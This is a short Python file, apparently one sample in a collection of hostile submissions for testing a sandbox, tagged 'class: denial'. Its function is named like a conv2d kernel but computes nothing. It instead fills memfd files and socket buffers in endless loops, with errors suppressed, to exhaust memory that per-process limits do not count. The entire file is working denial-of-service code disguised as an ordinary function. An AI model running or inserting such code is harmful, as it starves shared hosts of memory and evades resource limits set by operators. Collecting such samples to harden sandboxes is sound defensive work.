"""Memory that no limit of the process counts: memfd, pipes, socket buffers, files in /dev/shm."""

# class: denial

# %% conv2d_combined
import contextlib
import os
import socket


def conv2d_combined(x, weight, bias):
    kept = []
    with contextlib.suppress(OSError):
        while True:
            kept.append(os.memfd_create("m"))
            os.write(kept[-1], bytes(1 << 20))
    with contextlib.suppress(OSError):
        while True:
            kept.append(socket.socketpair())
            kept[-1][0].setblocking(False)
            kept[-1][0].send(bytes(1 << 20))
    return kept
